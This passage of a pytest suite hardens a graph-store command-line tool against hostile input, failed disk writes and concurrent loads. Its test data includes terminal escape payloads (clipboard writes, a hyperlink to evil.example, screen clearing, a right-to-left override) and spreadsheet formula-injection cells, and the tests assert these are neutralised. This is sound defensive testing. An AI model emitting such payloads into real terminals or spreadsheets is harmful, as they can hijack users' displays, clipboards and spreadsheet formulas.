    report = tmp_path / "review.csv"
    proc = _cli(
        "load",
        "--nodes",
        str(nodes),
        "--skip-invalid",
        "--report",
        str(report),
        "--db",
        str(tmp_path / "r.db"),
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stderr
    rows = _cells(report.read_text(encoding="utf-8"))
    assert len(rows) == 4
    for row in rows:
        assert not any(c.startswith(ACTIVE) for c in row), row
    assert (
        sum(
            1
            for row in rows
            for c in row
            if c.startswith("'=") or c.startswith("'@") or c.startswith("'-")
        )
        == 3
    )
    assert not list(tmp_path.glob(".review.csv.*"))  # no temporary left behind
    probes["spreadsheet-csv"]["neutralised"] += 3


# == the terminal ============================================================================
ESCAPES = [
    "\x1b]0;pwned\x07",  # OSC: window title
    "\x1b]52;c;ZXZpbA==\x07",  # OSC 52: write the clipboard
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b[2J\x1b[H",  # clear screen
    "\x1b[31mred\x1b[0m",
    "\x9b31m",  # 8-bit CSI
    "\x9d0;t\x9c",  # 8-bit OSC
    "\u202eevil",  # right-to-left override
    "a\nb\tc\rd",
]


def test_tables_strip_every_terminal_control_sequence(tmp_path: Path, probes: Probes) -> None:
    db = tmp_path / "t.db"
    f = tmp_path / "t.jsonl"
    f.write_text(
        _jl(*(_node(f"org:t{i}", name=f"Name{i} {e} end") for i, e in enumerate(ESCAPES))),
        encoding="utf-8",
    )
    with open_store(db) as store:
        load(store, [f], progress=False)
    for args in (
        ["cypher", "MATCH (o:Organization) RETURN o.id AS id, o.name AS name ORDER BY id"],
        ["query", "co_membership", "-p", "actor=org:t0"],
    ):
        proc = _cli(*args, "--db", str(db), cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr
        for bad in ("\x1b", "\x9b", "\x9d", "\x9c", "\x07", "\u202e", "\r"):
            assert bad not in proc.stdout, (args, repr(proc.stdout))
    for i in range(len(ESCAPES)):
        assert f"Name{i} " in proc.stdout or args[0] == "query"
    proc = _cli(
        "cypher",
        "MATCH (o:Organization) RETURN o.id AS id, o.name AS name ORDER BY id",
        "--db",
        str(db),
        cwd=tmp_path,
    )
    for i in range(len(ESCAPES)):
        assert f"Name{i} " in proc.stdout and " end" in proc.stdout
        probes["terminal"]["stripped"] += 1
    # the data itself is kept verbatim: JSON carries it escaped
    proc = _cli(
        "cypher",
        "MATCH (o {id: 'org:t0'}) RETURN o.name AS name",
        "--db",
        str(db),
        "--format",
        "json",
        cwd=tmp_path,
    )
    assert json.loads(proc.stdout) == [{"name": f"Name0 {ESCAPES[0]} end"}]


# == exports =================================================================================
CONTROL = ["\x0b", "\x01", "\x08", "\x1f", "\x0c", "\ufffe", "\uffff"]


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_are_well_formed_whatever_the_values(
    tmp_path: Path, probes: Probes, fmt: str
) -> None:
    """The issue's case: ``\\x0b`` and ``\\x01`` (accepted by the loader) made invalid XML."""
    f = tmp_path / "c.jsonl"
    f.write_text(
        _jl(
            *(_node(f"org:c{i}", name=f"a{c}b", note=[f"x{c}"]) for i, c in enumerate(CONTROL)),
            _rel("PARTNER_OF", "org:c0", "org:c1", start="2019-01-01", role="r\x01le"),
        ),
        encoding="utf-8",
    )
    out = tmp_path / f"g.{fmt}"
    with open_store(tmp_path / "c.db") as store:
        load(store, [f], progress=False)
        export(store, fmt, out)
    ET.parse(out)  # well-formed
    G = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
    names = {d.get("name") for _, d in G.nodes(data=True)}
    assert {"a\ufffdb" for _ in CONTROL} <= names
    assert G.number_of_edges() == 1
    probes["exports"]["well-formed XML"] += len(CONTROL)


@needs_mounts
@pytest.mark.parametrize("fmt", ["jsonl", "graphml", "csv"])
def test_an_export_that_fails_part_way_keeps_the_previous_file(
    tmp_path: Path, probes: Probes, fmt: str
) -> None:
    """The issue's case: an export on a full disk had already truncated the good file."""
    db = tmp_path / "big.db"
    f = tmp_path / "big.jsonl"
    f.write_text(_jl(*(_node(f"org:b{i}", name="x" * 200) for i in range(3000))), encoding="utf-8")
    with open_store(db) as store:
        load(store, [f], progress=False)
    small = tmp_path / "small.db"
    with open_store(small) as store:
        store.upsert_node("Organization", {"id": "org:s", "name": "S", "sources": ["s"]})
    out = "out/x" + ("/" if fmt == "csv" else f".{fmt}")
    target = "out/x/nodes.csv" if fmt == "csv" else out
    script = f"""
        mkdir -p out && mount -t tmpfs -o size=256k tmpfs out
        civicgraph export --format {fmt} -o {out} --db {small} 2>/dev/null
        before=$(sha256sum {target})
        civicgraph export --format {fmt} -o {out} --db {db}; echo "rc=$?"
        after=$(sha256sum {target})
        [ "$before" = "$after" ] && echo same
        ls -a {"out/x" if fmt == "csv" else "out"} | grep -c tmp || true
    """
    proc = _in_namespace(script, tmp_path)
    lines = proc.stdout.split()
    assert "rc=1" in lines and "same" in lines, proc.stdout + proc.stderr
    assert lines[-1] == "0", "a temporary file was left behind"
    err = [x for x in proc.stderr.splitlines() if x.strip()]
    assert len(err) == 1 and "No space left on device" in err[0] and "unchanged" in err[0], (
        proc.stderr
    )
    assert "Traceback" not in proc.stderr
    probes["exports"]["previous file kept"] += 1


def test_export_to_a_directory_a_device_or_a_missing_store_is_one_line(
    tmp_path: Path, probes: Probes
) -> None:
    db = tmp_path / "e.db"
    with open_store(db) as store:
        store.upsert_node("Organization", {"id": "org:e", "name": "E", "sources": ["s"]})
    (tmp_path / "adir").mkdir()
    (tmp_path / "afile").write_text("x")
    for fmt, out, expect in [
        ("jsonl", str(tmp_path / "adir"), "directory"),
        ("graphml", "/dev/full", "No space left"),
        ("gexf", str(tmp_path / "afile" / "x.gexf"), "not a directory"),
        ("csv", str(tmp_path / "afile"), "it is a file"),
        ("csv", "-", "two files"),
    ]:
        proc = _cli("export", "--format", fmt, "-o", out, "--db", str(db), cwd=tmp_path)
        line = _one_line_error(proc)
        assert expect in line, line
        probes["exports"]["one-line error"] += 1


# == output paths checked first; what a partial commit committed ===========================
@needs_mounts
def test_a_report_in_a_read_only_directory_is_refused_before_the_load(
    tmp_path: Path, probes: Probes
) -> None:
    """The issue's case: the load committed its rows, then tracebacked on the report."""
    (tmp_path / "ro").mkdir()
    nodes = tmp_path / "n.csv"
    nodes.write_text(_csv([["id", "label", "name"], ["org:r", "Organization", "R"]]))
    db = tmp_path / "r.db"
    script = f"""
        mount --bind ro ro && mount -o remount,ro,bind ro
        civicgraph load --nodes {nodes} --report ro/review.csv --db {db}; echo "rc=$?"
    """
    proc = _in_namespace(script, tmp_path)
    assert "rc=1" in proc.stdout, proc.stdout + proc.stderr
    line = _one_line_error(subprocess.CompletedProcess([], 1, "", proc.stderr))
    assert "ro/review.csv" in line and "read-only" in line
    assert not db.exists()  # checked before the store was even opened
    probes["output-paths"]["refused before writing"] += 1


def test_output_paths_are_checked_before_anything_is_written(
    tmp_path: Path, probes: Probes
) -> None:
    nodes = tmp_path / "n.csv"
    nodes.write_text(_csv([["id", "label", "name"], ["org:r", "Organization", "R"]]))
    (tmp_path / "afile").write_text("x")
    db = tmp_path / "r.db"
    for args in (
        ["load", "--nodes", str(nodes), "--report", str(tmp_path / "afile" / "r.csv")],
        ["load", "--nodes", str(nodes), "--report", str(tmp_path / "afile" / "sub" / "r.csv")],
    ):
        line = _one_line_error(_cli(*args, "--db", str(db), cwd=tmp_path))
        assert "afile" in line
        assert not db.exists()
        probes["output-paths"]["refused before writing"] += 1
    with open_store(db) as store:
        store.upsert_node("Organization", {"id": "org:e", "name": "E", "sources": ["s"]})
        digest = store.digest()
    for args in (
        ["explore", "--all", "-o", str(tmp_path / "afile" / "p.html")],
        ["export", "--format", "jsonl", "-o", str(tmp_path / "afile" / "x.jsonl")],
    ):
        _one_line_error(_cli(*args, "--db", str(db), cwd=tmp_path))
        probes["output-paths"]["refused before writing"] += 1
    with open_store(db) as store:
        assert store.digest() == digest


def test_a_report_that_fails_after_the_commit_says_what_was_committed(
    tmp_path: Path, probes: Probes
) -> None:
    nodes = tmp_path / "n.csv"
    nodes.write_text(
        _csv([["id", "label", "name"], ["org:r", "Organization", "R"], ["org:b", "Nope", "B"]])
    )
    proc = _cli(
        "load",
        "--nodes",
        str(nodes),
        "--skip-invalid",
        "--report",
        "/dev/full",
        "--db",
        str(tmp_path / "d.db"),
        cwd=tmp_path,
    )
    line = _one_line_error(proc)
    assert "the load was committed" in line and "created 2" in line and "/dev/full" in line, line
    probes["output-paths"]["named what was committed"] += 1


@needs_mounts
def test_a_full_disk_mid_load_says_what_was_committed_and_resume_finishes(
    tmp_path: Path, probes: Probes
) -> None:
    """The issue's case: 10,000 of 12,000 rows left, a message naming neither that nor
    ``--resume``.  The store is on a small tmpfs filled by a ballast file; after the
    failure the ballast goes, and ``--resume`` finishes with the clean load's digest."""
    nodes = tmp_path / "big.csv"
    nodes.write_text(
        _csv(
            [["id", "label", "name"]]
            + [[f"org:o{i}", "Organization", f"Organisation {i}"] for i in range(12000)]
        )
    )
    with open_store(tmp_path / "ref.db") as ref:
        load(ref, nodes=[nodes], batch_size=2000, progress=False)
        want = ref.digest()
    digest = "from civicgraph.graph import open_store; import sys; s = open_store(sys.argv[1]); print('digest', s.digest(), s.totals()[0]); s.close()"
    script = f"""
        mkdir fs && mount -t tmpfs -o size=4m tmpfs fs
        civicgraph info --db fs/s.db 2>/dev/null; civicgraph load --nodes {nodes} --db fs/s.db --batch-size 2000 --report fs/none.csv >/dev/null 2>&1; rm -rf fs/s.db fs/none.csv
        free=$(df -k --output=avail fs | tail -1)
        dd if=/dev/zero of=fs/ballast bs=1k count=$((free - 1400)) 2>/dev/null
        civicgraph load --nodes {nodes} --db fs/s.db --batch-size 2000; echo "rc=$?"
        {shlex.quote(sys.executable)} -c {shlex.quote(digest)} fs/s.db
        rm fs/ballast
        civicgraph load --nodes {nodes} --db fs/s.db --batch-size 2000 --resume; echo "rc=$?"
        {shlex.quote(sys.executable)} -c {shlex.quote(digest)} fs/s.db
    """
    proc = _in_namespace(script, tmp_path, timeout=600)
    out = proc.stdout
    assert out.count("rc=") == 2, out + proc.stderr
    first_rc, second_rc = [x for x in out.split() if x.startswith("rc=")]
    assert first_rc == "rc=1", out + proc.stderr
    err = [x for x in proc.stderr.splitlines() if x.startswith("Error:")]
    assert len(err) == 1 and "Traceback" not in proc.stderr, proc.stderr
    line = err[0]
    assert "--resume" in line and "No space left on device" in line, line
    import re

    m = re.search(r"after committing (\d+) of (\d+) batches \(([\d,]+) of ([\d,]+) rows", line)
    assert m, line
    committed = int(m.group(3).replace(",", ""))
    digests = [x.split() for x in out.splitlines() if x.startswith("digest")]
    assert int(digests[0][2]) == committed, (
        f"the store holds {digests[0][2]} nodes, the message says {committed}"
    )
    assert second_rc == "rc=0", out + proc.stderr
    assert digests[1][1] == want
    probes["output-paths"]["named what was committed"] += 1
    probes["reload-twice"]["unchanged"] += 1


@needs_mounts
def test_the_validation_spool_on_a_full_disk_is_one_line_and_writes_nothing(
    tmp_path: Path, probes: Probes
) -> None:
    nodes = tmp_path / "big.csv"
    nodes.write_text(
        _csv(
            [["id", "label", "name"]]
            + [[f"org:o{i}", "Organization", "x" * 100] for i in range(20000)]
        )
    )
    script = f"""
        mkdir fs && mount -t tmpfs -o size=2m tmpfs fs
        civicgraph load --nodes {nodes} --db fs/s.db --batch-size 100000; echo "rc=$?"
        civicgraph info --db fs/s.db | grep nodes
    """
    proc = _in_namespace(script, tmp_path)
    assert "rc=1" in proc.stdout, proc.stdout + proc.stderr
    line = _one_line_error(subprocess.CompletedProcess([], 1, "", proc.stderr))
    assert "spool" in line and "nothing was written" in line, line
    assert "nodes:         0" in proc.stdout
    probes["output-paths"]["refused before writing"] += 1


# == no traceback reaches a user =============================================================
def _sweep_inputs(d: Path, db: Path) -> list[tuple[str, list[str]]]:
    """(what, argv) pairs that must each fail with one line: hostile paths and inputs."""
    (d / "adir").mkdir(exist_ok=True)
    (d / "afile").write_text("x")
    (d / "deep.jsonl").write_text(
        '{"kind": "node", "id": "org:d", "labels": ["Organization"], "properties": '
        + "[" * 100_000
        + "]" * 100_000
        + "}\n"
    )
    (d / "deep2.jsonl").write_text("[" * 100_000 + "]" * 100_000 + "\n")
    (d / "bad.yaml").write_text("nodes: [")
    (d / "n.csv").write_text("id,label,name\norg:n,Organization,N\n")
    (d / "binary.jsonl").write_bytes(b"\xff\xfe\x00\x01")
    typo = str(d / "typo.db")
    weird = os.fsdecode(bytes(d) + b"/caf\xe9.db")  # not UTF-8: a surrogate escape
    sweep: list[tuple[str, list[str]]] = []
    for cmd in (
        ["info"],
        ["query", "mayors_of", "-p", "city=insee:38185"],
        ["cypher", "RETURN 1"],
        ["export", "--format", "jsonl", "-o", str(d / "x.jsonl")],
        ["explore", "--all", "-o", str(d / "x.html")],
        ["brokerage"],
    ):
        for what, where in (
            ("missing store", typo),
            ("a file as store", str(d / "afile")),
            ("a non-store dir", str(d / "adir")),
            ("undecodable path", weird),
        ):
            sweep.append((f"{cmd[0]} on {what}", [*cmd, "--db", where]))
    sweep += [
        (
            "export -o directory",
            ["export", "--format", "jsonl", "-o", str(d / "adir"), "--db", str(db)],
        ),
        ("export -o /dev/full", ["export", "--format", "gexf", "-o", "/dev/full", "--db", str(db)]),
        (
            "export -o under a file",
            [
                "export",
                "--format",
                "graphml",
                "-o",
                str(d / "afile" / "g.graphml"),
                "--db",
                str(db),
            ],
        ),
        (
            "export -o /proc",
            ["export", "--format", "jsonl", "-o", "/proc/civicgraph.jsonl", "--db", str(db)],
        ),
        ("explore -o /dev/full", ["explore", "--all", "-o", "/dev/full", "--db", str(db)]),
        ("load JSON nested 100,000 deep", ["load", str(d / "deep.jsonl"), "--db", str(db)]),
        ("load a JSON list nested 100,000 deep", ["load", str(d / "deep2.jsonl"), "--db", str(db)]),
        ("load a binary file", ["load", str(d / "binary.jsonl"), "--db", str(db)]),
        ("load a missing file", ["load", str(d / "missing.csv"), "--db", str(db)]),
        (
            "load --mapping broken YAML",
            ["load", str(d / "n.csv"), "--mapping", str(d / "bad.yaml"), "--db", str(db)],
        ),
        (
            "load --mapping a directory",
            ["load", str(d / "n.csv"), "--mapping", str(d / "adir"), "--db", str(db)],
        ),
        (
            "load --report /dev/full",
            ["load", "--nodes", str(d / "n.csv"), "--report", "/dev/full", "--db", str(db)],
        ),
        (
            "load --report under a file",
            [
                "load",
                "--nodes",
                str(d / "n.csv"),
                "--report",
                str(d / "afile" / "r.csv"),
                "--db",
                str(db),
            ],
        ),
        (
            "load into a file as store",
            ["load", "--nodes", str(d / "n.csv"), "--db", str(d / "afile")],
        ),
        ("load into /proc", ["load", "--nodes", str(d / "n.csv"), "--db", "/proc/civicgraph.db"]),
        (
            "demo --html /dev/full",
            ["demo", "--html", str(d / "afile" / "a.html"), "--db", str(d / "demo.db")],
        ),
        ("cypher -p name with a backtick", ["cypher", "RETURN $x", "-p", "x`y=1", "--db", str(db)]),
    ]
    return sweep


def test_no_traceback_reaches_a_user(tmp_path: Path, probes: Probes) -> None:
    """Every command, run as a user runs it, on hostile paths and inputs: one line, exit 1."""
    db = tmp_path / "s.db"
    with open_store(db) as store:
        store.upsert_node("Organization", {"id": "org:s", "name": "S", "sources": ["s"]})
    failures = []
    for what, argv in _sweep_inputs(tmp_path, db):
        proc = _cli(*argv, cwd=tmp_path)
        if proc.returncode == 0 or "Traceback" in proc.stdout + proc.stderr:
            failures.append(f"{what}: exit {proc.returncode}\n{proc.stderr[-600:]}")
            continue
        errors = [x for x in proc.stderr.splitlines() if x.startswith("Error:")]
        # click's usage errors (exit 2) add "Usage:" and "Try … --help" around their line
        usage = proc.returncode == 2 and proc.stderr.startswith("Usage:")
        others = [
            x
            for x in proc.stderr.splitlines()
            if x.strip() and not x.startswith(("Error:", "civicgraph:"))
        ]
        if len(errors) != 1 or "unexpected" in errors[0] or (others and not usage):
            failures.append(f"{what}: {proc.stderr!r}")
            continue
        probes["no-traceback"]["usage error" if usage else "one line"] += 1
    assert not failures, "\n".join(failures)
    assert not (tmp_path / "typo.db").exists() and not (tmp_path / "demo.db").exists()


# == a read-only store can be read ===========================================================
@needs_mounts
def test_a_store_on_a_read_only_mount_can_be_read(
    case_db: Path, tmp_path: Path, probes: Probes
) -> None:
    """The issue's case: a store on a read-only mount tracebacked, even for ``info``."""
    import shutil

    db = tmp_path / "ro" / "case.db"
    shutil.copytree(case_db, db, ignore=shutil.ignore_patterns("lock", "server.json", "write.lock"))
    with open_store(db) as store:
        want_digest = store.digest()
        want_info = store.info()
    members = [
        "query",
        "network_members",
        "-p",
        "network=net:anvita",
        "-p",
        "date=2022-09-01",
        "--format",
        "csv",
    ]
    script = f"""
        mount --bind ro ro && mount -o remount,ro,bind ro
        civicgraph info --db {db} --format json > info.json; echo "info=$?"
        civicgraph {" ".join(members)} --db {db} > members.csv; echo "query=$?"
        civicgraph cypher "MATCH (n) RETURN count(n) AS n" --db {db} --format json > count.json; echo "cypher=$?"
        civicgraph export --format jsonl -o ro.jsonl --db {db}; echo "export=$?"
        civicgraph load --nodes n.csv --db {db}; echo "load=$?"
        civicgraph cypher "CREATE (:City {{id: 'insee:x'}})" --write --db {db}; echo "write=$?"
        ls -a ro/case.db | tr '\\n' ' '; echo
    """
    (tmp_path / "n.csv").write_text("id,label,name\norg:n,Organization,N\n")
    proc = _in_namespace(script, tmp_path)
    out = proc.stdout
    for step in ("info=0", "query=0", "cypher=0", "export=0", "load=1", "write=1"):
        assert step in out.split(), out + proc.stderr
    info = json.loads((tmp_path / "info.json").read_text())
    assert info["nodes"] == want_info["nodes"] and info["labels"] == want_info["labels"]
    assert "read-only" in info["read_only"] or "not writable" in info["read_only"]
    assert json.loads((tmp_path / "count.json").read_text()) == [{"n": want_info["nodes"]}]
    direct = _cli(*members, "--db", str(db), cwd=tmp_path)
    assert (tmp_path / "members.csv").read_text() == direct.stdout
    errors = [x for x in proc.stderr.splitlines() if x.startswith("Error:")]
    assert len(errors) == 2 and all("read-only" in e for e in errors), proc.stderr
    assert "Traceback" not in proc.stderr
    with open_store(tmp_path / "back.db") as back:
        load(back, [tmp_path / "ro.jsonl"], progress=False)
        assert back.digest() == want_digest
    with open_store(db) as store:  # untouched
        assert store.digest() == want_digest
    probes["read-only-store"]["read"] += 4
    probes["read-only-store"]["write refused"] += 2


def test_an_unwritable_store_opens_read_only_in_python(tmp_path: Path, probes: Probes) -> None:
    """Without a mount namespace: a non-root user on a directory without write permission
    (skipped as root, whom permission bits do not stop)."""
    if os.geteuid() == 0:
        pytest.skip("root writes through permission bits (the read-only mount test covers it)")
    db = tmp_path / "p.db"
    with open_store(db) as store:
        store.upsert_node("Organization", {"id": "org:p", "name": "P", "sources": ["s"]})
        want = store.digest()
    for p in (db, db / "data"):
        p.chmod(0o555)
    try:
        with open_store(db, create=False) as store:
            assert store.read_only and store.digest() == want
            with pytest.raises(ReadOnlyStore):
                store.upsert_node("Organization", {"id": "org:q", "name": "Q", "sources": ["s"]})
    finally:
        for p in (db, db / "data"):
            p.chmod(0o755)
    probes["read-only-store"]["read"] += 1


# == two writers =============================================================================
@pytest.mark.parametrize("delay", [0.0, 0.3, 0.8])
def test_a_second_load_waits_for_the_first(tmp_path: Path, probes: Probes, delay: float) -> None:
    """The issue's case: a second ``load`` 0.3 s after another failed with ``FalkorDB
    connection lost … engine.sock``.  Cause: it joined the first process's engine as a
    guest, and that engine ended with the first process.  Now the owner waits, at close,
    for a guest holding the write lock; a guest that got the lock after the owner's engine
    stopped starts its own."""
    files = []
    for tag in ("a", "b"):
        p = tmp_path / f"{tag}.csv"
        p.write_text(
            _csv(
                [["id", "label", "name"]]
                + [[f"org:{tag}{i}", "Organization", f"{tag}{i}"] for i in range(15000)]
            )
        )
        files.append(p)
    db = tmp_path / "w.db"
    with open_store(db):
        pass
    first = subprocess.Popen(
        [CIVICGRAPH, "load", "--nodes", str(files[0]), "--db", str(db)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    time.sleep(delay)
    second = subprocess.Popen(
        [CIVICGRAPH, "load", "--nodes", str(files[1]), "--db", str(db)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    outs = [p.communicate(timeout=300) for p in (first, second)]
    for proc, (out, err) in zip((first, second), outs, strict=True):
        assert proc.returncode == 0, err
        assert "connection lost" not in err and "Traceback" not in err
        assert "created 15001" in out
    with open_store(tmp_path / "ref.db") as ref:
        load(ref, nodes=[files[0]], progress=False)
        load(ref, nodes=[files[1]], progress=False)
        want = ref.digest()
    with open_store(db) as store:
        assert store.digest() == want
    probes["two-writers"]["waited" if "waiting" in outs[0][1] + outs[1][1] else "no overlap"] += 1


# == read commands never create a store ======================================================
def test_a_read_command_never_creates_a_store(tmp_path: Path, probes: Probes) -> None:
    """The issue's case: ``export --db typo.db`` exported an empty store with exit 0."""
    for cmd in (
        ["info"],
        ["query", "network_members", "-p", "network=net:anvita", "-p", "date=2022-09-01"],
        ["cypher", "MATCH (n) RETURN n"],
        ["export", "--format", "jsonl", "-o", "x.jsonl"],
        ["explore", "--all", "-o", "x.html"],
        ["brokerage"],
    ):
        proc = _cli(*cmd, "--db", "typo.db", cwd=tmp_path)
        line = _one_line_error(proc)
        assert (
            line
            == "Error: no civicgraph store at typo.db (create one with civicgraph load or civicgraph demo)"
        ), line
        assert not (tmp_path / "typo.db").exists()
        assert not (tmp_path / "x.jsonl").exists() and not (tmp_path / "x.html").exists()
        probes["missing-store"]["refused, nothing created"] += 1
    with pytest.raises(StoreNotFound):
        open_store(tmp_path / "typo.db", create=False)
    assert not (tmp_path / "typo.db").exists()


# == every accepted input, loaded twice ======================================================
def test_each_accepted_input_loaded_twice_changes_nothing(tmp_path: Path, probes: Probes) -> None:
    inputs: dict[str, dict[str, Any]] = {}
    (tmp_path / "n.csv").write_text(
        _csv(
            [
                ["ID", "Label", "Name", "siren", "code"],
                [NFD, "Person", "Carême", "", "007"],
                ["insee:01001", "City", '=HYPERLINK("x")', "012345678", "12"],
                ["insee:21231", "City", "\x1b]0;t\x07B", "212345678", ""],
                ["net:n", "Network", "N", "", ""],
            ]
        ),
        encoding="utf-8",
    )
    (tmp_path / "e.csv").write_text(
        _csv(
            [
                ["SOURCE", "Target", "type", "Start", "END", "Sources"],
                [NFC, "net:n", "MEMBER_OF", "2019-01-01", "2020-01-01", "src:a|src:b"],
                ["insee:01001", "net:n", "MEMBER_OF", "2019-01-01", "", ""],
            ]
        )
    )
    inputs["csv"] = {"nodes": [tmp_path / "n.csv"], "edges": [tmp_path / "e.csv"]}
    (tmp_path / "j.jsonl").write_text(
        _jl(
            _node(NFD, "Person", name="a\x0bb"),
            _node("org:v", name="-1+1", v=[1, 2]),
            _rel("PARTNER_OF", "org:v", "org:v", start="2020-01-01", role="@x"),
        ),
        encoding="utf-8",
    )
    inputs["jsonl"] = {"paths": [tmp_path / "j.jsonl"]}
    (tmp_path / "g.graphml").write_text(
        _graphml(
            [(NFD, {"label": "Person", "name": "G"})],
            [(NFD, NFD, {"type": "PARTNER_OF", "Start": "2021-01-01"})],
        ),
        encoding="utf-8",
    )
    inputs["graphml"] = {"paths": [tmp_path / "g.graphml"]}
    (tmp_path / "m.yaml").write_text(
        'nodes:\n  - label: City\n    id: "insee:{code}"\n    properties: {name: nom, siren: siren}\nrelationships:\n  - type: MEMBER_OF\n    source: "insee:{code}"\n    target: =net:n\n    properties: {Start: d}\n'
    )
    (tmp_path / "m.csv").write_text(
        "code,nom,siren,d\n05023,'=B,012345678,2020-01-01\n38185,G,212345678,\n"
    )
    inputs["mapping"] = {"paths": [tmp_path / "m.csv"], "mapping": tmp_path / "m.yaml"}
    with open_store(tmp_path / "twice.db") as store:
        store.upsert_node("Network", {"id": "net:n", "name": "N", "sources": ["s"]})
        for name, kwargs in inputs.items():
            load(store, progress=False, **kwargs)
            first = store.digest()
            again = load(store, progress=False, **kwargs)
            assert store.digest() == first, name
            assert again.totals().created == 0 and again.totals().updated == 0, name
            probes["reload-twice"]["unchanged"] += 1
        assert [r["id"] for r in store.query("MATCH (n:Person) RETURN n.id AS id")] == [NFC]
